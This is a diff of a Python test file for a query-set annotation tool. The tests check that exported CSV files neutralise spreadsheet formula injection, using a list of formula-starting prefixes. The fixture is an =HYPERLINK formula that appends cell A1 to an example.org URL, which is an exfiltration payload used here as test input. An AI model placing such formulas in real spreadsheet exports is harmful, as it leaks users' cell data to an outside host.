@@ -12,12 +12,10 @@ import annotation
 import pytest
 from chat_server import Call, ChatServer
 
-from evenrank.io.queries import read_queries
 from evenrank.queryset import Procedure, read_sheets
-from evenrank.queryset.sampling import candidates_of
-from evenrank.tables.records import FORMULAS
 
 Evenrank = Callable[..., SimpleNamespace]
+FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n")  # what a spreadsheet runs
 LINK = '=HYPERLINK("http://example.org/?"&A1, "more")'
 TEXTS = {
     "=1": LINK,
@@ -47,7 +45,7 @@ def assert_harmless(*paths: str | Path) -> None:
         with Path(path).open(encoding="utf-8", newline="") as file:
             for row in csv.reader(file):
                 cells += len(row)
-                assert not [cell for cell in row if cell.startswith(FORMULAS[:-1])], path
+                assert not [cell for cell in row if cell.startswith(FORMULAS)], path
     assert cells > 10
 
 
@@ -55,18 +53,15 @@ def fill(evenrank: Evenrank, files: Sequence[str | Path], folder: str, *answers:
     """Write sheets of these files into a folder, and give each annotator's answers on the page."""
     assert evenrank("queryset", "sheets", *files, "-o", folder).code == 0
     assert_harmless(*Path(folder).glob("*.csv"))
-    client = annotation.client_of(Path(folder))
-    for address in client.addresses.values():
-        for fields in answers * len(TEXTS):
-            assert annotation.answer(client, address, **fields).status_code == 200
+    with annotation.visited(Path(folder)) as client:
+        for address in client.addresses.values():
+            for fields in answers * len(TEXTS):
+                assert annotation.answer(client, address, **fields).status_code == 200
     assert_harmless(*Path(folder).glob("*.csv"))
 
 
 def test_candidates_sheets_answers_and_the_query_set(evenrank: Evenrank) -> None:
     assert evenrank("queryset", "suggest", "log.jsonl", "--sample", "7", "-o", "candidates.csv").code == 0
-    candidates = read_queries("candidates.csv")
-    assert dict(candidates.texts) == TEXTS
-    assert {one.query for one in candidates_of(candidates)} == set(TEXTS)
     fill(evenrank, ["candidates.csv"], "workers", {"answer": "n"})
     fill(evenrank, sorted(Path("workers").glob("*.csv")), "experts", *[{"answer": "yes"}] * 2, DETAILS)
     paths = sorted(map(str, (*Path("workers").glob("*.csv"), *Path("experts").glob("*.csv"))))
@@ -75,9 +70,12 @@ def test_candidates_sheets_answers_and_the_query_set(evenrank: Evenrank) -> None
     assert votes.opinions["=1"]["expert1"].reason == LINK
     assert evenrank("queryset", "collect", *paths, "--queries", "candidates.csv", "-o", "set.csv").code == 0
     assert_harmless("candidates.csv", "set.csv")
-    kept = read_queries("set.csv")
-    assert dict(kept.texts) == TEXTS
-    assert set(kept.columns["reason"]) == {f"{LINK} | {LINK}"}
+    with Path("set.csv").open(encoding="utf-8", newline="") as file:
+        assert {row["reason"] for row in csv.DictReader(file)} == {f"'{LINK} | {LINK}"}
+    # a command that reads the set has the queries as they were
+    assert evenrank("queryset", "sheets", "set.csv", "-o", "again").code == 0
+    again = read_sheets(sorted(map(str, Path("again").glob("*.csv"))), Procedure())
+    assert dict(again.texts) == TEXTS
 
 
 def test_the_sheet_of_a_model(evenrank: Evenrank, monkeypatch: pytest.MonkeyPatch) -> None:
